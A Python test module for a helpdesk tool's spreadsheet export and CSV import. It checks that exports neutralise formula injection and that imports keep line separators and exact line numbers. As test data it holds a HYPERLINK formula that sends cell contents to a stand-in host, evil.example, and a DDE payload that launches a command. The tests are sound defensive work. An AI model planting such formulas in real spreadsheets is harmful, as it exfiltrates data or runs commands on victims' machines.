"""Spreadsheet files (issue 13): exports hold no live formulas and keep every text, and CSV
imports keep line separators inside values with exact line numbers.

Property tests write arbitrary texts through the export writers and read them back the way a
spreadsheet user's tools would (openpyxl, the csv module); the end-to-end tests go through
``cxdesk tickets export`` and ``cxdesk contact import`` on SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine
from sqlmodel import select

from cxdesk.engine.dispatch import unit_of_work
from cxdesk.store.csv_files import read_csv
from cxdesk.store.db import read_session
from cxdesk.store.export import (
    EXPORT_COLUMNS,
    FORMULA_STARTS,
    XLSX_MAX_TEXT,
    csv_text,
    csv_text_read,
    write_csv,
    write_xlsx,
    xlsx_text,
)
from cxdesk.store.models import Contact
from cxdesk.store.tickets import TicketDraft, create_ticket
from cxdesk.store.views import LIST_COLUMNS, TicketRow
from tests.cli_helpers import Cli
from tests.desk import build_small_desk

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&D2,"x")'
LINE_BREAKS = "\r\n\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"
"""Every character ``str.splitlines`` splits on."""

# Any text, and texts that begin the way formulas (or apostrophes before them) do.
TEXTS = st.one_of(
    st.text(),
    st.builds(str.__add__, st.sampled_from([*FORMULA_STARTS, "'", "''=", "'+", "#N/A"]), st.text()),
    st.text(alphabet=st.sampled_from(LINE_BREAKS + "=+-@'ab ,\"")),
)
# What an .xlsx cell can hold as it is: no CR (XML reads it as LF) and no C0 control
# character XML 1.0 cannot carry.
XML_CLEAN = st.text(
    alphabet=st.characters(
        exclude_categories=["Cs"],
        exclude_characters="\r\ufffe\uffff"
        + "".join(chr(c) for c in range(0x20) if chr(c) not in "\t\n"),
    )
)
WHEN = st.datetimes(
    min_value=datetime(2000, 1, 1), max_value=datetime(2100, 1, 1), timezones=st.just(UTC)
)


def ticket_rows(texts: st.SearchStrategy[str]) -> st.SearchStrategy[TicketRow]:
    return st.builds(
        TicketRow,
        id=st.integers(1, 10**9),
        key=texts,
        response_id=st.none() | st.integers(-(10**12), 10**12),
        customer_name=texts,
        customer_email=texts,
        origin_team=texts,
        team=texts,
        owner=st.none() | texts,
        priority=texts,
        status=texts,
        created_at=WHEN,
        customer_comment=texts,
        title=texts,
        updated_at=WHEN,
        sla=st.none(),
    )


def texts_of(row: TicketRow) -> dict[str, str]:
    """The row's exported text columns by field name."""
    return {
        name: getattr(row, name) for name in LIST_COLUMNS if isinstance(getattr(row, name), str)
    }


def read_xlsx(path: Path) -> list[list[openpyxl.cell.Cell]]:
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    return [list(row) for row in sheet.iter_rows()]


# -- export: no formulas, every text back ------------------------------------------------------


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(ticket_rows(TEXTS), min_size=1, max_size=4))
def test_csv_export_gives_back_every_text_and_no_formula(rows: list[TicketRow]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "out.csv"
        assert write_csv(path, [rows]) == len(rows)
        with path.open(encoding="utf-8-sig", newline="") as handle:
            read = list(csv.reader(handle))
    assert read[0] == list(EXPORT_COLUMNS.values())
    assert len(read) == len(rows) + 1
    for row, cells in zip(rows, read[1:], strict=True):
        by_name = dict(zip(EXPORT_COLUMNS, cells, strict=True))
        for name, value in texts_of(row).items():
            assert not by_name[name].startswith(FORMULA_STARTS), (name, by_name[name])
            assert csv_text_read(by_name[name]) == value
        number = row.response_id
        assert by_name["response_id"] == ("" if number is None else str(number))  # unprefixed
        written = datetime.fromisoformat(by_name["created_at"])
        assert written == row.created_at.replace(microsecond=0)  # to the second


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(ticket_rows(TEXTS), min_size=1, max_size=3))
def test_xlsx_export_holds_texts_as_strings_never_formulas(rows: list[TicketRow]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "out.xlsx"
        assert write_xlsx(path, [rows]) == len(rows)
        sheet = read_xlsx(path)
    assert [cell.value for cell in sheet[0]] == list(EXPORT_COLUMNS.values())
    for row, cells in zip(rows, sheet[1:], strict=True):
        by_name = dict(zip(EXPORT_COLUMNS, cells, strict=True))
        for name, value in texts_of(row).items():
            cell = by_name[name]
            assert cell.data_type != "f", (name, cell.value)
            expected = xlsx_text(value)
            assert (cell.value or "") == expected, name
            if expected:
                assert cell.data_type == "s", (name, cell.data_type)
        if row.response_id is not None:
            assert by_name["response_id"].value == row.response_id  # a number cell
        assert isinstance(by_name["created_at"].value, datetime)  # a date cell


@settings(max_examples=60, deadline=None)
@given(XML_CLEAN.filter(lambda t: len(t) <= XLSX_MAX_TEXT))
def test_xlsx_text_keeps_every_text_xml_can_hold(value: str) -> None:
    assert xlsx_text(value) == value


def test_what_xlsx_cells_cannot_hold_is_written_as_documented() -> None:
    assert xlsx_text("a\r\nb\rc\nd") == "a\nb\nc\nd"
    assert xlsx_text("bell\x07 nul\x00 tab\t") == "bell\ufffd nul\ufffd tab\t"
    assert xlsx_text("x" * (XLSX_MAX_TEXT + 5)) == "x" * XLSX_MAX_TEXT


def test_csv_prefix_is_added_only_where_needed_and_can_be_told_apart() -> None:
    assert csv_text(HYPERLINK) == "'" + HYPERLINK
    assert [csv_text(t) for t in ("+1 555", "-5", "@SUM(A1)", "\tx", "\rx")] == [
        "'+1 555",
        "'-5",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
    ]
    assert [csv_text(t) for t in ("Ada", "", "'quoted'", "a=b", " =1")] == [
        "Ada",
        "",
        "'quoted'",
        "a=b",
        " =1",
    ]
    assert csv_text("'=1") == "''=1" and csv_text_read("''=1") == "'=1"


def test_tickets_export_writes_a_formula_name_as_text(
    engine: Engine, cli: Cli, tmp_path: Path
) -> None:
    build_small_desk(engine)
    with unit_of_work(engine) as session:
        key = create_ticket(
            session,
            actor=None,
            draft=TicketDraft(
                title="Survey answer",
                team="360",
                customer_name=HYPERLINK,
                customer_email="eve@example.com",
                customer_comment="+cmd|' /C calc'!A0",
            ),
        ).key
    xlsx, text = tmp_path / "out.xlsx", tmp_path / "out.csv"
    for path in (xlsx, text):
        result = cli("tickets", "export", "-o", str(path), "--days", "0")
        assert result.exit_code == 0, str(result)

    sheet = read_xlsx(xlsx)
    cells = dict(zip(EXPORT_COLUMNS, sheet[1], strict=True))
    assert cells["key"].value == key
    assert (cells["customer_name"].value, cells["customer_name"].data_type) == (HYPERLINK, "s")
    assert cells["customer_comment"].value == "+cmd|' /C calc'!A0"
    assert not any(cell.data_type == "f" for row in sheet for cell in row)
    assert isinstance(cells["created_at"].value, datetime)

    with text.open(encoding="utf-8-sig", newline="") as handle:
        record = dict(zip(EXPORT_COLUMNS, list(csv.reader(handle))[1], strict=True))
    assert record["customer_name"] == "'" + HYPERLINK
    assert record["customer_comment"] == "'+cmd|' /C calc'!A0"
    assert record["key"] == key


# -- CSV import: the csv module's lines ---------------------------------------------------------

CELLS = st.one_of(st.text(), st.text(alphabet=st.sampled_from(LINE_BREAKS + 'ab ,"')))


def line_breaks(text: str) -> int:
    """Line breaks in ``text`` as a file opened with ``newline=''`` reads them: CRLF, CR, LF."""
    return len(re.findall("\r\n|\r|\n", text))


@settings(max_examples=80, deadline=None)
@given(
    st.lists(
        st.tuples(st.booleans(), st.lists(CELLS, min_size=2, max_size=2)),
        min_size=1,
        max_size=8,
    )
)
def test_csv_import_keeps_values_and_counts_lines_exactly(
    rows: list[tuple[bool, list[str]]],
) -> None:
    """Each row is good (two values) or ragged (a third value); read_csv returns the good ones
    with their values and the line each starts on, and each ragged one as a problem on its
    line."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(["name", "note"])
    expected_rows: list[tuple[int, dict[str, str]]] = []
    expected_problems: list[int] = []
    for good, cells in rows:
        start = line_breaks(buffer.getvalue()) + 1
        if not any(cell.strip() for cell in cells):
            cells = [cells[0] + "x", cells[1]]  # a blank row is skipped, not a row
        writer.writerow(cells if good else [*cells, "extra"])
        if good:
            expected_rows.append((start, {"name": cells[0].strip(), "note": cells[1].strip()}))
        else:
            expected_problems.append(start)
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "in.csv"
        path.write_text(buffer.getvalue(), encoding="utf-8", newline="")
        parsed = read_csv(path)
    assert parsed.columns == ["name", "note"]
    assert [(row.line, row.values) for row in parsed.rows] == expected_rows
    assert [problem.line for problem in parsed.problems] == expected_problems


def test_contact_import_keeps_unicode_line_separators_in_values(
    cli: Cli, engine: Engine, tmp_path: Path
) -> None:
    file = tmp_path / "contacts.csv"
    file.write_text(
        "name,email,plan\r\n"
        "Ada Lovelace,ada@example.com,gold\u2028plus\x85tier\r\n"  # line 2
        'Grace Hopper,grace@example.com,"two\r\nlines"\r\n'  # lines 3-4
        "Bad\x1cRow,not-an-email,free\x0bplan\r\n"  # line 5
        "Linus T,linus@example.com,free\x0c\x1d\x1e\u2029\r\n"  # line 6
        "Too,many,values,here\r\n",  # line 7
        encoding="utf-8",
        newline="",
    )
    result = cli("contact", "import", str(file))
    assert result.exit_code == 1, str(result)
    assert "3 contacts imported" in result.stdout, str(result)
    refused = [line.strip() for line in result.error_lines]
    assert len(refused) == 2, str(result)
    # Line 5's name holds U+001C (refused by the rule for names) and its email is not one.
    assert refused[0].startswith("line 5: name must not contain"), str(result)
    assert "email 'not-an-email'" in refused[0], str(result)
    assert refused[1] == "line 7: has 4 values but the header names 3", str(result)
    with read_session(engine) as session:
        plans = {c.email: c.attributes.get("plan") for c in session.exec(select(Contact))}
    assert plans == {
        "ada@example.com": "gold\u2028plus\x85tier",
        "grace@example.com": "two\r\nlines",
        "linus@example.com": "free\x0c\x1d\x1e\u2029".strip(),
    }
